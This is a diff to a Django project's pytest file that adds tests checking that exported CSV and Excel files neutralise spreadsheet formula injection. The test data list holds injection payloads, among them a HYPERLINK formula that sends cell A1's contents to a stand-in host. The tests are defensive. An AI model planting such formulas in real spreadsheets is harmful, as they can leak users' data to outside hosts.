@@ -8,6 +8,7 @@ import pytest
 import tablib
 from django.core.exceptions import NON_FIELD_ERRORS
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.utils import translation
 from django.utils.timezone import now
 
 from commitments.models import Assessment, Commitment, Milestone, Update
@@ -579,7 +580,7 @@ def test_character_that_excel_cannot_read_is_refused(character):
     dataset = CommitmentResource().export(Commitment.objects.none())
     dataset.append([f"a{character}b"] + [""] * (dataset.width - 1))
 
-    with pytest.raises(ValueError, match="row 2"):
+    with translation.override("en"), pytest.raises(ValueError, match="row 2"):
         Xlsx().export_data(dataset)
 
 
@@ -594,6 +595,33 @@ def test_text_that_excel_can_hold_is_written_whole(admin_client, text):
     sheet = openpyxl.load_workbook(BytesIO(response.content)).active
     column = [cell.value for cell in sheet[1]].index("results")
     assert sheet[2][column].value == text
+
+
+# What a spreadsheet would run, as focal points might type it, and what only looks like it was kept from that.
+RUN = ['=HYPERLINK("http://x.example?"&A1,"clic")', "+1+1", "-1+1", "@SUM(1)", "'=1", "''+1"]
+
+
+@pytest.mark.parametrize("text", RUN)
+def test_text_that_a_spreadsheet_would_run_is_kept_from_running(admin_client, text):
+    make_update(workflow=Status.DRAFT, text_es=text)
+
+    lines, _words = export(admin_client, Update, 0)
+    book, _words = export(admin_client, Update, 1)
+
+    assert tablib.import_set(lines.content.decode(), "csv").dict[0]["text_es"] == f"'{text}"
+    cells = [cell for row in openpyxl.load_workbook(BytesIO(book.content)).active for cell in row]
+    assert [cell.data_type for cell in cells if cell.value == text] == ["s"]
+
+
+@pytest.mark.parametrize("file_format", [0, 1, 2])
+@pytest.mark.parametrize("text", RUN)
+def test_text_that_was_kept_from_running_comes_back_as_it_was(admin_client, text, file_format):
+    make_update(workflow=Status.DRAFT, text_es=text)
+
+    exported, _words = export(admin_client, Update, file_format)
+    result = upload(admin_client, Update, exported.content, file_format).context["result"]
+
+    assert [line.import_type for line in result.rows] == ["skip"]
 
 
 def test_emoji_count_twice_as_excel_counts_them(admin_client):
